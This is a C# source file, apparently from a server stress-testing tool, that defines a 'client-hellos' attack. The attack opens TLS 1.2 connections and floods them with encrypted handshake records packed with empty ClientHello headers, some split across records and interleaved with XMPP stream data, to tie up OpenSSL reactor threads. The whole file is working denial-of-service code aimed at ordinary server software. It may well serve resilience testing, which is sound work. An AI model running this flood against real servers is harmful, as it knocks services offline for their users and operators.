using System.Net;
using System.Text;

namespace Megaphone.Attacks;

/// <summary>
/// Handshake records behind the handshake of TLS 1.2, full of the headers of ClientHello messages: OpenSSL answers each with a warning that
/// it does not renegotiate, 4,096 for each record, and does not give the reactor its thread back while more are there.
/// </summary>
internal sealed class ClientHelloFlood : TlsFlood
{
    /// <summary>More than one thread of OpenSSL takes: 40 were enough to keep it busy.</summary>
    private const int RecordsPerSecond = 200;

    /// <summary>An empty ClientHello (RFC 5246, section 7.4): its type, and three bytes of length.</summary>
    private static readonly byte[] Hello = [1, 0, 0, 0];

    /// <summary>The data between them: the beginning of a stream, and white space.</summary>
    private static readonly byte[] First = Encoding.ASCII.GetBytes(XmppClient.Header), Later = [(byte)' '];

    /// <inheritdoc/>
    public override string Name => "client-hellos";

    /// <inheritdoc/>
    public override string Summary => "TLS 1.2: clients that never log in send headers of ClientHello behind their handshake";

    /// <inheritdoc/>
    public override Scene Scene => new() { HasPeers = true, Ecm = ["Ecm:Reactors=2"] };

    /// <inheritdoc/>
    public override int MinActions => 4;

    /// <inheritdoc/>
    protected override int Connections => 4;

    /// <inheritdoc/>
    protected override bool Reads(int number) => true;

    /// <inheritdoc/>
    protected override async Task<Flood> MakeAsync(IPEndPoint to, string keyLog, int number, TimeSpan length)
    {
        HandmadeTls12 tls = await HandmadeTls12.ConnectAsync(to, keyLog);
        int records = Math.Max(8, (int)(RecordsPerSecond * length.TotalSeconds));
        byte[] bytes = [.. Enumerable.Range(0, records).SelectMany(i => Record(tls, number, i))];
        return new Flood(tls.Socket, bytes, records);
    }

    /// <summary>The first two clients fill their records; the others send one header in each, and halves of it, with data between.</summary>
    private static byte[] Record(HandmadeTls12 tls, int number, int i) => (number, i % 4) switch
    {
        ( < 2, _) => tls.Seal(
            HandmadeTls.Handshake, [.. Enumerable.Repeat(Hello, HandmadeTls12.MaxContentBytes / Hello.Length).SelectMany(hello => hello)]),
        (_, 0) => tls.Seal(HandmadeTls.ApplicationData, i == 0 ? First : Later),
        (_, 1) => tls.Seal(HandmadeTls.Handshake, Hello.AsSpan(0, 3)),
        (_, 2) => tls.Seal(HandmadeTls.Handshake, Hello.AsSpan(3)),
        _ => tls.Seal(HandmadeTls.Handshake, Hello),
    };
}
